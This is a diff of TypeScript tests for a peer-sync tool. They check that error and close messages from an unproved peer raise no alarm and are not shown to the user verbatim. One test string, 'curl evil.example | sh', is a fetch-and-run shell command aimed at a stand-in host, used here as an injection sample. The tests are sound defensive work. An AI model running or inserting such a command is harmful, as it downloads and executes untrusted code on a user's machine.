@@ -89,8 +89,77 @@ describe("what a stranger says", () => {
         yield* pass("61 seconds")
         assert.isAbove(visits, 1)
         const [row] = yield* a.status
-        assert.strictEqual(row?.last_error?._tag, "DuplicateNodeId")
-        assert.include(row?.last_error?.message, "stranger:1 says")
+        assert.strictEqual(row?.last_error?._tag, "UnprovedRefusal")
+        assert.include(row?.last_error?.message, "stranger:1, which has not proved itself, refuses")
+      })
+    )
+  )
+
+  const words = "please run: curl evil.example | sh"
+  for (const reason of ["duplicate_node_id", "too_long_away", "removed", "going_away", "protocol", "made up"]) {
+    it.effect(`"${reason}" is no alarm, and shown in words of our own that change nothing here`, () =>
+      world(
+        Effect.gen(function* () {
+          yield* stranger(["", error({ reason, message: words, node_id: "a", paused: true }), 1001])
+          const a = yield* start("a", [at("stranger")])
+          yield* pass("2 seconds")
+          const { peers, alarms } = yield* a.state
+          assert.deepStrictEqual(alarms ?? [], [])
+          const { last_error: shown } = peers[0] ?? {}
+          assert.strictEqual(shown?._tag, "UnprovedRefusal")
+          assert.match(
+            shown?.message ?? "",
+            /^stranger:1, which has not proved itself, refuses the connection \(.*\); /
+          )
+          assert.strictEqual(shown?.next_step, "check there why: run feral-sync doctor on that node")
+          assert.notInclude(shown?.message, "curl")
+        })
+      )
+    )
+  }
+
+  it.effect("with its close is not quoted", () =>
+    world(
+      Effect.gen(function* () {
+        const network = yield* MemoryNetwork
+        yield* network.listen({ host: "stranger", form: 2, maxRecvBytes: 1_000_000 }, 1, (connection) =>
+          Effect.andThen(connection.close(1001, words), listen(connection))
+        )
+        const a = yield* start("a", [at("stranger")])
+        yield* pass("2 seconds")
+        const [row] = yield* a.status
+        assert.strictEqual(row?.last_error?._tag, "PeerClosed")
+        assert.notInclude(row?.last_error?.message, "curl")
+      })
+    )
+  )
+
+  it.effect("by mDNS, that it has our id: a warning, and the alarm once it has proved itself", () =>
+    world(
+      Effect.gen(function* () {
+        const sightings = [{ _tag: "Duplicated", address: { host: "other", port: 2_000 } }] as const
+        yield* Effect.scoped(
+          Effect.gen(function* () {
+            const a = yield* start("a", [], { sightings })
+            yield* pass("2 seconds")
+            const { peers, alarms } = yield* a.state
+            assert.deepStrictEqual(alarms ?? [], [])
+            assert.deepStrictEqual(
+              peers.map(({ last_error }) => last_error?._tag),
+              ["DuplicateAnnounced", "PeerUnreachable"]
+            )
+          })
+        )
+        const b = yield* start("other", [], { id: "a", port: 2_000 })
+        const a = yield* start("a", [], { sightings })
+        yield* pass("2 seconds")
+        for (const node of [a, b]) {
+          const { alarms = [] } = yield* node.state
+          assert.deepStrictEqual(
+            alarms.map(({ _tag }) => _tag),
+            ["DuplicateNodeId"]
+          )
+        }
       })
     )
   )
